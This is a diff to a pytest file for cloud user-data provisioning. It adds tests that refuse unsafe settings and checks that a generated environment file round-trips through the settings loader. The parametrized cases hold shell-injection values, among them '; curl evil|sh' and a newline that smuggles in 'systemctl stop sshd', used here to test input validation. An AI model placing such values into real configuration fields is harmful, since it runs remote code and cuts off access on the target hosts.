@@ -15,7 +15,7 @@ import pytest
 from tweet_topics.defs.infra.deployment import Deployment
 from tweet_topics.defs.infra.jobs import provision_infra
 from tweet_topics.defs.infra.userdata import UnsafePackageSpec, environment, install_commands, render_user_data
-from tweet_topics.settings import Settings
+from tweet_topics.settings import Settings, load_settings
 from tweet_topics_tests.defs.infra.helpers import CANARY, make_infra, run
 
 ROOT = Path(__file__).resolve().parents[3]
@@ -54,6 +54,51 @@ def test_an_injection_in_run_config_fails_before_any_aws_call(resources):
 def test_create_instance_requires_a_package_spec(resources):
     with pytest.raises(Exception, match="streamer_package is required"):
         make_infra(resources, create_instance=True)
+    with pytest.raises(Exception, match="streamer_package is required when create_live_instance"):
+        make_infra(resources, create_live_instance=True)
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("live_checkpoint", "s3a://bucket/live/checkpoint/; curl evil|sh"),
+        ("live_checkpoint", "file:///var/lib/tweet-topics-live/checkpoint"),
+        ("live_checkpoint", "s3a://bucket/live/checkpoint/\n"),
+        ("live_instance_type", "m6i.large\nsystemctl stop sshd"),
+    ],
+)
+def test_live_host_knobs_that_would_reach_the_shell_or_lose_the_checkpoint_are_refused(resources, field, value):
+    with pytest.raises(Exception) as info:
+        make_infra(resources, create_live_instance=True, streamer_package="tweet_topics==0.1.0", **{field: value})
+    assert field in str(info.value)
+
+
+def test_the_live_hosts_environment_file_loads_as_the_live_settings(resources):
+    """What user-data writes to /etc/tweet-topics/live.env is read back by the project's own settings loader: the
+    same bucket and prefixes as provisioning, the Firehose buffer (the query's lookback) and the checkpoint."""
+    settings = Settings(env="prod", bucket="team-bucket", live_prefix="tt/live/", raw_prefix="tt/raw/")
+    checkpoint = "s3a://team-bucket/tt/live/checkpoint/"
+    infra = make_infra(
+        resources,
+        settings=settings,
+        token=CANARY,
+        create_live_instance=True,
+        streamer_package="tweet_topics==0.1.0",
+        live_checkpoint=checkpoint,
+        buffer_interval_s=30,
+    )
+    user_data = infra.live_user_data() or ""
+    env_file = user_data.split("cat > /etc/tweet-topics/live.env <<'ENV'\n")[1].split("\nENV\n")[0]
+    environ = dict(line.split("=", 1) for line in env_file.splitlines())
+    loaded = load_settings(environ)
+    assert (loaded.env, loaded.bucket) == ("prod", "team-bucket")
+    assert (loaded.live_prefix, loaded.raw_prefix) == ("tt/live/", "tt/raw/")
+    assert loaded.live_checkpoint == checkpoint and loaded.firehose_buffer_seconds == 30
+    assert environ["SPARK_DRIVER_MEMORY"] == "4g" and "TWEET_TOPICS_X_BEARER_PARAMETER" not in environ
+    assert environ["PYSPARK_PYTHON"] + " -m tweet_topics live" in user_data, "workers run the unit's interpreter"
+    assert "User=tweet-topics-live" in user_data and "useradd --system --create-home tweet-topics-live" in user_data
+    assert "{{" not in user_data and CANARY not in user_data
+    assert infra.user_data() is None, "no streamer instance asked for: no streamer user-data"
 
 
 def test_pinned_artifacts_are_downloaded_hash_checked_and_quoted():
